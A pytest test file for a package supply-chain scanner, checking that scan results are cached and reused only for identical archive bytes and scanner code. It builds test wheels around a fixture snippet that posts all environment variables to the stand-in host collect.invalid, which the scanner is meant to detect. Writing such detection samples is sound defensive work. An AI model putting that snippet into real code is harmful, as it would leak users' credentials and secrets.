"""Whole results are reused for the same archive bytes scanned by the same code, and only then."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from chainwarden import engine
from chainwarden.analyzers.python import PythonAnalyzer
from chainwarden.engine import Scanner, ScanOptions
from chainwarden.models import Finding, Location, Severity
from chainwarden.sources import source_for
from chainwarden.sources.base import SourceOptions
from chainwarden.sources.wheel import WheelArtifact
from support.packages import make_wheel

if TYPE_CHECKING:
    from pathlib import Path

_BEACON = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('http://collect.invalid/', data=repr(dict(os.environ)).encode())\n"
)


def _wheel(tmp_path: Path, body: str = _BEACON) -> Path:
    tmp_path.mkdir(parents=True, exist_ok=True)
    return make_wheel(tmp_path, "beacon", "1.0", {"beacon/__init__.py": body})


def _count_extraction(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """Counts batches of files sent to analyzers from now on."""
    calls: list[int] = []
    real = engine._extract_with

    def spy(*args: Any, **kwargs: Any) -> list[tuple[str, str | None, str]]:
        calls.append(1)
        return real(*args, **kwargs)

    monkeypatch.setattr(engine, "_extract_with", spy)
    return calls


def _count_judging(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """Counts packages the Python analyzer judges from now on."""
    calls: list[int] = []
    real = PythonAnalyzer.judge

    def spy(self: PythonAnalyzer, *args: Any, **kwargs: Any) -> Any:
        calls.append(1)
        return real(self, *args, **kwargs)

    monkeypatch.setattr(PythonAnalyzer, "judge", spy)
    return calls


def test_second_scan_of_the_same_wheel_reuses_the_result(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    wheel = _wheel(tmp_path)
    options = ScanOptions(jobs=1, cache_dir=tmp_path / "cache")
    with Scanner(options) as scanner:
        first = scanner.scan([str(wheel)]).results[0]
    assert any(f.severity >= Severity.HIGH for f in first.findings)
    calls = _count_extraction(monkeypatch)
    judged = _count_judging(monkeypatch)
    with Scanner(options) as scanner:
        second = scanner.scan([str(wheel)]).results[0]
    assert not calls
    assert not judged
    assert second.findings == first.findings
    assert second.unscanned == first.unscanned
    assert second.ref == first.ref
    assert second.stats.cache_hits == first.stats.analyzed_files > 0


def test_changed_bytes_are_scanned_again(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    options = ScanOptions(jobs=1, cache_dir=tmp_path / "cache")
    with Scanner(options) as scanner:
        scanner.scan([str(_wheel(tmp_path / "a", "x = 1\n"))])
    calls = _count_extraction(monkeypatch)
    with Scanner(options) as scanner:
        report = scanner.scan([str(_wheel(tmp_path / "b"))])
    assert calls  # new bytes: analysed
    assert any(f.severity >= Severity.HIGH for f in report.findings)


def test_other_code_does_not_reuse_results(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    wheel = _wheel(tmp_path)
    options = ScanOptions(jobs=1, cache_dir=tmp_path / "cache")
    with Scanner(options) as scanner:
        scanner.scan([str(wheel)])
    monkeypatch.setattr(engine, "_code_digest", lambda: "another build of chainwarden")
    calls = _count_extraction(monkeypatch)
    judged = _count_judging(monkeypatch)
    with Scanner(options) as scanner:
        # the per-file facts are still cached (same analyzer versions): nothing to extract,
        # but the result is judged again rather than taken from the cache
        result = scanner.scan([str(wheel)]).results[0]
    assert not calls
    assert judged
    assert result.stats.cache_hits == result.stats.analyzed_files
    assert any(f.severity >= Severity.HIGH for f in result.findings)


def test_only_local_archives_are_cacheable(tmp_path: Path) -> None:
    wheel = _wheel(tmp_path)
    options = SourceOptions(cache_dir=tmp_path / "c")
    (artifact,) = source_for(str(wheel)).open(str(wheel), options)
    with artifact:
        assert artifact.result_key.endswith(":" + wheel.name)
        yanked = Finding("CW029", Severity.MEDIUM, "yanked", Location(wheel.name))
        with WheelArtifact(wheel, artifact.ref, extra_problems=(yanked,)) as from_index:
            assert from_index.result_key == ""  # findings depend on index data
    (tmp_path / "tree").mkdir()
    (directory,) = source_for(str(tmp_path / "tree")).open(str(tmp_path / "tree"), options)
    assert directory.result_key == ""


def test_cached_result_of_a_big_wheel_starts_no_workers(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A forked worker is ready at once, so a big archive first looks for its cached result;
    a re-scan that finds one forks nothing."""
    monkeypatch.setattr(engine, "_start_method", lambda: "fork")
    monkeypatch.setattr(engine, "_WARM_ARCHIVE_BYTES", 1)  # any wheel counts as big
    wheel = _wheel(tmp_path)
    options = ScanOptions(jobs=2, cache_dir=tmp_path / "cache", pool_min_bytes=0)
    with Scanner(options) as first:
        first.scan([str(wheel)])
        assert first._pool is not None  # the cold scan used workers
    with Scanner(options) as second:
        report = second.scan([str(wheel)])
        assert second._pool is None
    assert report.results[0].stats.cache_hits == report.results[0].stats.analyzed_files > 0
